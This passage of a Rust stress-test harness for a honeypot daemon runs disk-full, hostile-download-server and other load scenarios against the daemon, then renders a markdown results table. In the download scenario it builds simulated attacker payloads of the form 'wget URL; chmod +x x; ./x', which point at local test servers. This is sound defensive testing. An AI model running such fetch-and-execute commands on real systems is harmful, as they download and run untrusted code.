    // Fill: everything there is, then free 96 KiB (less than one record's lines).
    let filler = st.scratch.harness_dir().join("filler");
    let filled = fill(&filler);
    let _ =
        std::fs::OpenOptions::new().write(true).open(&filler).and_then(|f| f.set_len(filled.saturating_sub(96 << 10)));
    let log_at = st.daemon.stdout_len();
    let t_full = Instant::now();
    let during = in_ns(&st.net.cli, || {
        client::quick_sessions(1, 30, P_MAIN, deadline(), Duration::ZERO, client::tagged("d2", 200 << 10))
    });
    st.daemon.settle(&st.scratch, Duration::from_secs(1), Duration::from_secs(30));
    let full_secs = t_full.elapsed().as_secs();
    let full_log = st.daemon.stdout_since(log_at);
    let _ = std::fs::remove_file(&filler);
    let after = in_ns(&st.net.cli, || {
        client::quick_sessions(1, 20, P_MAIN, deadline(), Duration::ZERO, client::tagged("d3", 8192))
    });
    st.daemon.settle(&st.scratch, Duration::from_secs(1), Duration::from_secs(30));
    // Error lines while full, per output.
    let allowed = 1 + full_secs / 60;
    let mut per: Vec<(String, u64)> = Vec::new();
    for who in ["SaveFile", "logAttacker", "logJSON", "logEvents"] {
        let n =
            full_log.lines().filter(|l| l.contains(who) && (l.contains("Error") || l.contains("error"))).count() as u64;
        per.push((who.to_string(), n));
    }
    let flood: Vec<String> = per.iter().filter(|(_, n)| *n > allowed).map(|(w, n)| format!("{w} {n}")).collect();
    r.check(
        "errors throttled",
        flood.is_empty(),
        format!(
            "error lines while full ({full_secs} s, 30 attacks): {}; at most {allowed} each",
            per.iter().map(|(w, n)| format!("{w} {n}")).collect::<Vec<_>>().join(", ")
        ),
    );
    let files = verify::attack_files(&st.scratch.attacks);
    let saved_during = during.iter().filter(|o| files.by_marker.contains_key(&o.marker)).count();
    r.result = format!(
        "{}/20 before, {}/30 while full ({saved_during} attack files), {}/20 after completed",
        before.iter().filter(|o| o.completed).count(),
        during.iter().filter(|o| o.completed).count(),
        after.iter().filter(|o| o.completed).count()
    );
    let mut all: Vec<Outcome> = before.into_iter().filter(|o| o.completed).collect();
    all.extend(after.into_iter().filter(|o| o.completed));
    let exp = expect_tcp(&all);
    st.finish(&mut r, &exp, Duration::from_secs(2), Duration::from_secs(60), None);
    r
}

/// Writes zeros to `path` until the file system is full; returns the size reached.
fn fill(path: &Path) -> u64 {
    use std::io::Write;
    let Ok(mut f) = std::fs::File::create(path) else { return 0 };
    let chunk = vec![0u8; 64 << 10];
    let mut n = 0u64;
    // Bounded: at most 1 GiB (the tmpfs is far smaller).
    while n < (1 << 30) {
        match f.write(&chunk) {
            Ok(0) | Err(_) => break,
            Ok(k) => n += k as u64,
        }
    }
    let _ = f.sync_all();
    n
}

/// Attacks whose download commands point at misbehaving servers in the client namespace.
/// Runs in the background: signals `ready` once the fast servers are done, then waits for
/// the slow downloads' records (the download deadline is 120 s).
fn downloads(z: &Sizes, ready: &mpsc::Sender<()>) -> Report {
    let per = z.downloads_per_kind;
    let mut r = Report::new("hostile download servers", format!("{} kinds × {per} attacks", hostile::KINDS.len()));
    let st = Stage::new("dl", env::nofile_default(), None);
    let stop = StopOnDrop(Arc::new(AtomicBool::new(false)));
    let servers = {
        let (cli, stop) = (format!("/var/run/netns/{}", st.net.cli), Arc::clone(&stop.0));
        thread::spawn(move || {
            env::enter_ns(&cli);
            hostile::start(CLI, &stop)
        })
        .join()
        .expect("hostile servers")
    };
    let mut ps = Vec::new();
    for k in hostile::KINDS {
        for i in 0..per {
            let m = marker(&format!("dl-{}", k.name()), i);
            let url = k.url(CLI, i);
            let body = format!("{m} cd /tmp; wget {url}; chmod +x x; ./x\n");
            ps.push(Plan { marker: m, port: P_MAIN, payload: body.into_bytes(), drip: None, head: 0 });
        }
    }
    let outs = in_ns(&st.net.cli, || {
        let o = RunOpts {
            concurrency: ps.len(),
            connect_inflight: 64,
            wait_response: true,
            hold_all: false,
            deadline: Instant::now() + Duration::from_secs(60),
        };
        client::run_sessions(&ps, &o, &mut || {})
    });
    let fast = hostile::KINDS.iter().filter(|k| k.fast()).count() * per;
    common::wait_until(Duration::from_secs(60), || servers.finished.load(Ordering::Relaxed) >= fast);
    let _ = ready.send(());
    // The drip servers hold a download until its deadline (download_timeout, 120 s).
    st.daemon.settle(&st.scratch, Duration::from_secs(10), Duration::from_secs(300));
    let out = verify::read_outputs(&st.scratch);
    let mut incomplete = Vec::new();
    for o in outs.iter().filter(|o| o.completed) {
        let md5 = honeytrap::attack::md5_hex(&o.sent);
        let tries = out.json.iter().find(|j| j.md5 == md5).map_or(-1, |j| j.download_tries);
        let session = out.events.iter().find(|e| e.md5.as_deref() == Some(md5.as_str())).map(|e| e.session.clone());
        let count = |id: &str| {
            out.events
                .iter()
                .filter(|e| Some(&e.session) == session.as_ref() && e.eventid == id && e.url.is_some())
                .count()
        };
        let started = count("honeytrap.session.file_download.started");
        let ended = count("honeytrap.session.file_download") + count("honeytrap.session.file_download.failed");
        let how: Vec<String> = out
            .events
            .iter()
            .filter(|e| Some(&e.session) == session.as_ref())
            .filter_map(|e| match e.eventid.as_str() {
                "honeytrap.session.file_download" => Some(format!("saved {} bytes", e.size.unwrap_or(0))),
                "honeytrap.session.file_download.failed" => {
                    Some(format!("failed: {}", e.reason.as_deref().unwrap_or("?")))
                }
                _ => None,
            })
            .collect();
        r.notes.push(format!(
            "{}: {}",
            o.marker,
            if how.is_empty() { "no download ended".into() } else { how.join(", ") }
        ));
        if tries < 1 || started < 1 || started != ended {
            incomplete.push(format!("{}: download_tries {tries}, {started} started, {ended} ended", o.marker));
        }
    }
    let completed = outs.iter().filter(|o| o.completed).count();
    r.result =
        format!("{completed}/{} attacks served; {} with incomplete download records", outs.len(), incomplete.len());
    r.check(
        "served",
        completed == outs.len(),
        format!("{completed} of {} served; {}", outs.len(), or_none(errors(&outs))),
    );
    r.check(
        "download records",
        incomplete.is_empty(),
        if incomplete.is_empty() {
            "every attack has its download tried and ended".into()
        } else {
            incomplete.join("; ")
        },
    );
    let exp = expect_tcp(&outs);
    st.finish(&mut r, &exp, Duration::from_secs(2), Duration::from_secs(30), None);
    drop(stop);
    r
}

/// Sets the flag when dropped (the hostile servers stop also when the scenario panics).
struct StopOnDrop(client::Stop);

impl Drop for StopOnDrop {
    fn drop(&mut self) {
        self.0.store(true, Ordering::Relaxed);
    }
}

// ---------------------------------------------------------------------------------------------
// Driver

type Scenario = (&'static str, fn(&Sizes) -> Report);

fn main() {
    let short = match std::env::var("HT_STRESS").as_deref() {
        Ok("short") => true,
        Ok("full") | Ok("") | Err(_) => false,
        Ok(other) => {
            eprintln!("stress: HT_STRESS must be `full` or `short`, not `{other}`");
            std::process::exit(2);
        }
    };
    let require_all = std::env::var("HONEYTRAP_REQUIRE_ALL_TESTS").is_ok_and(|v| v == "1");
    let skip = |why: String| {
        if require_all {
            println!("stress: FAILED: {why} (HONEYTRAP_REQUIRE_ALL_TESTS=1 forbids skipping)");
            std::process::exit(1);
        }
        println!("stress: skipped: {why}");
        std::process::exit(0);
    };
    if !common::is_root() {
        skip("needs root (network namespaces, veth pairs, iptables NFQUEUE rules, a tmpfs mount)".into());
    }
    for t in ["ip", "iptables", "prlimit", "mount", "umount", "getent", "sysctl"] {
        if !common::have(t) {
            skip(format!("needs the `{t}` command"));
        }
    }
    if !Path::new(common::BIN).exists() {
        println!("stress: {} does not exist; run `make stress` (it builds it first).", common::BIN);
        std::process::exit(1);
    }
    env::remove_stale();
    env::raise_own_nofile(65536);
    let z = if short { SHORT } else { FULL };
    let only: Option<Vec<String>> =
        std::env::var("HT_STRESS_ONLY").ok().map(|v| v.split(',').map(|s| s.trim().to_string()).collect());
    const NAMES: [&str; 11] =
        ["simultaneous", "drip", "large", "rapid", "scan", "udp", "nofile", "sighup", "sigkill", "disk", "downloads"];
    if let Some(bad) = only.iter().flatten().find(|n| !NAMES.contains(&n.as_str())) {
        eprintln!("stress: HT_STRESS_ONLY: no scenario `{bad}` (there are: {})", NAMES.join(", "));
        std::process::exit(2);
    }
    let wanted = |name: &str| only.as_ref().is_none_or(|o| o.iter().any(|x| x == name));
    let started = Instant::now();

    // The two scenarios that mostly wait (listeners timing out, downloads dripping) run in
    // the background once their busy part is over, while the others run one by one.
    let mut background: Vec<thread::JoinHandle<Report>> = Vec::new();
    let mut names_bg: Vec<&'static str> = Vec::new();
    for (name, bg) in [("scan", 0), ("downloads", 1)] {
        if !wanted(name) {
            continue;
        }
        eprintln!("== {name} (busy part; the rest runs in the background)");
        let (tx, rx) = mpsc::channel();
        let t = Instant::now();
        let h = thread::spawn(move || {
            let r = std::panic::catch_unwind(std::panic::AssertUnwindSafe(|| {
                if bg == 0 {
                    syn_scan(&tx)
                } else {
                    downloads(&z, &tx)
                }
            }));
            let _ = tx.send(());
            let mut r = r.unwrap_or_else(|e| harness_failure(name, e));
            r.took = t.elapsed();
            r
        });
        let _ = rx.recv_timeout(Duration::from_secs(180));
        background.push(h);
        names_bg.push(name);
    }
    let foreground: [Scenario; 9] = [
        ("simultaneous", simultaneous),
        ("drip", slow_drip),
        ("large", large),
        ("rapid", rapid),
        ("udp", udp_flood),
        ("nofile", nofile),
        ("sighup", sighup),
        ("sigkill", sigkill),
        ("disk", |_| disk_full()),
    ];
    let mut reports: Vec<(&'static str, Report)> = Vec::new();
    for (name, f) in foreground {
        if !wanted(name) {
            continue;
        }
        eprintln!("== {name}");
        let t = Instant::now();
        let r = std::panic::catch_unwind(std::panic::AssertUnwindSafe(|| f(&z)));
        let mut r = r.unwrap_or_else(|e| harness_failure(name, e));
        r.took = t.elapsed();
        eprintln!("   {} in {:.0} s", if r.passed() { "passed" } else { "FAILED" }, r.took.as_secs_f64());
        reports.push((name, r));
    }
    for (h, name) in background.into_iter().zip(names_bg) {
        eprintln!("== waiting for {name}");
        let r = h.join().unwrap_or_else(|e| harness_failure(name, e));
        reports.push((name, r));
    }
    reports.sort_by_key(|(n, _)| NAMES.iter().position(|o| o == n));
    let reports: Vec<Report> = reports.into_iter().map(|(_, r)| r).collect();
    let table = render(&reports, short, started.elapsed());
    println!("{table}");
    let out = Path::new(env!("CARGO_MANIFEST_DIR")).join("target/stress.md");
    match std::fs::write(&out, &table) {
        Ok(()) => eprintln!("written to {}", out.display()),
        Err(e) => eprintln!("could not write {}: {e}", out.display()),
    }
    if reports.iter().any(|r| !r.passed()) {
        std::process::exit(1);
    }
}

fn harness_failure(name: &'static str, e: Box<dyn std::any::Any + Send>) -> Report {
    let msg = e
        .downcast_ref::<String>()
        .cloned()
        .or_else(|| e.downcast_ref::<&str>().map(|s| s.to_string()))
        .unwrap_or_else(|| "panic".into());
    let mut r = Report::new(name, "—".into());
    r.result = "the scenario could not run".into();
    r.check("harness", false, msg.lines().take(6).collect::<Vec<_>>().join(" / "));
    r
}

fn render(reports: &[Report], short: bool, took: Duration) -> String {
    let mut s = String::new();
    let common::load::RunFacts { date, kernel, cpus } = common::load::run_facts();
    let _ = writeln!(s, "### Stress run (`make stress{}`), {date}\n", if short { " STRESS=short" } else { "" });
    let _ = writeln!(
        s,
        "Linux {}, {cpus} CPUs; target/release/honeytrap -D -u nobody -g nogroup on \
         contrib/honeytrap.conf.dist (paths in a scratch directory, logEvents on, nfq), \
         descriptor limit {}/{}, in a network namespace; the client in another, joined by a \
         veth pair. Run took {:.0} s.\n",
        kernel,
        env::nofile_default().0,
        env::nofile_default().1,
        took.as_secs_f64()
    );
    let _ = writeln!(s, "| Scenario | Size | Result | RSS idle / peak / after | Time | Verdict |");
    let _ = writeln!(s, "|---|---|---|---|---|---|");
    for r in reports {
        let failed: Vec<&str> = r.checks.iter().filter(|c| !c.ok).map(|c| c.name).collect();
        let _ = writeln!(
            s,
            "| {} | {} | {} | {} / {} / {} | {:.0} s | {} |",
            r.name,
            r.size,
            r.result.replace('|', "/"),
            mib(r.rss[0]),
            mib(r.rss[1]),
            mib(r.rss[2]),
            r.took.as_secs_f64(),
            if failed.is_empty() && !r.checks.is_empty() {
                "pass".to_string()
            } else {
                format!("FAIL: {}", failed.join(", "))
            }
        );
    }
    let _ = writeln!(
        s,
        "\nEvery scenario checks: alive (a fresh session served and saved afterwards), memory \
         (VmRSS back within {} of idle, at most {} s after the daemon settled), saved \
         (saved == completed: one attack file with the bytes sent and one attacker.log, \
         attackers.json and event line set per completed session; no temporary files left), \
         lines (every line parses; after a kill or a full disk a torn line is allowed, a glued \
         one never), confined (nothing written outside the configured directories; the daemon \
         runs as nobody/nogroup without file capabilities).",
        mib(RSS_TOLERANCE_KIB),
        RSS_WAIT.as_secs()
    );
    let failures: Vec<&Report> = reports.iter().filter(|r| !r.passed()).collect();
    if !failures.is_empty() {
        let _ = writeln!(s, "\nFailed checks, with the evidence:\n");
        for r in failures {
            for c in r.checks.iter().filter(|c| !c.ok) {
                let _ = writeln!(s, "- {}: {}: {}", r.name, c.name, c.evidence);
            }
            for n in &r.notes {
                let _ = writeln!(s, "  - {n}");
            }
        }
    }
    let notes: Vec<&Report> = reports.iter().filter(|r| r.passed() && !r.notes.is_empty()).collect();
    if !notes.is_empty() {
        let _ = writeln!(s, "\nNotes on the scenarios that passed:\n");
        for r in notes {
            for n in &r.notes {
                let _ = writeln!(s, "- {}: {n}", r.name);
            }
        }
    }
    let _ = writeln!(s, "\nAll checks:\n");
    for r in reports {
        for c in &r.checks {
            let _ = writeln!(s, "- {} / {}: {} — {}", r.name, c.name, if c.ok { "ok" } else { "FAILED" }, c.evidence);
        }
    }
    s
}
